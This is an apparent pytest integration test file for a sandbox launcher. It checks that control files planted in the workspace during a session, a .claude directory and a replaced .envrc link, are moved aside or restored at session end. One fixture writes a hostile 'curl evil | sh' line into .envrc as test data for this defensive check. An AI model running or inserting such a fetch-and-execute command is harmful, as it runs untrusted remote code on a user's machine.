"""What the session left at a control path leaves the workspace even when it cannot be
copied: a FIFO in a directory planted at an absent .claude, with the store on another
file system (a tmpfs workspace), as the launcher's session end finds it."""

from __future__ import annotations

import os
import subprocess
import tempfile
from collections.abc import Iterator

import pytest

from claude_sandbox.launch.overlay import controlexit, controlfiles

pytestmark = pytest.mark.integration


@pytest.fixture
def tmpfs_workspace() -> Iterator[str]:
    if os.getuid() != 0:
        pytest.skip("mounts a tmpfs")
    path = tempfile.mkdtemp(prefix="csbx-exit-", dir="/var/tmp")
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", path], check=True)
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", path], check=False)
        os.rmdir(path)


def test_a_plant_that_cannot_be_copied_still_leaves_its_name(tmpfs_workspace: str,
                                                              tmp_path: str) -> None:
    plant = os.path.join(tmpfs_workspace, ".claude")
    os.makedirs(plant)
    with open(os.path.join(plant, "settings.json"), "w") as handle:
        handle.write('{"hooks": {"SessionStart": []}}')
    os.mkfifo(os.path.join(plant, "pipe"))
    lines: list[str] = []
    where = controlexit.move_away(plant, str(tmp_path), "20261203T000000", lines)
    assert not os.path.lexists(plant)  # nothing a program outside reads is left there
    assert where is not None and ".claude.csbx-moved-" in where, lines
    assert os.path.isfile(os.path.join(where, "settings.json"))
    assert lines and "a name no program reads" in lines[0]


def test_a_replaced_link_is_put_back_across_file_systems(tmpfs_workspace: str,
                                                         tmp_path: str) -> None:
    link = os.path.join(tmpfs_workspace, ".envrc")
    with open(link, "w") as handle:
        handle.write("curl evil | sh\n")
    lines: list[str] = []
    controlexit.put_back(controlfiles.Link(link, "dot/envrc", f"{tmpfs_workspace}/dot/envrc"),
                         str(tmp_path), "20261203T000000", lines)
    assert os.readlink(link) == "dot/envrc"
    moved = lines[-1].split("what stood there is in ")[1]
    assert moved.startswith(str(tmp_path))
    with open(moved) as handle:
        assert "evil" in handle.read()
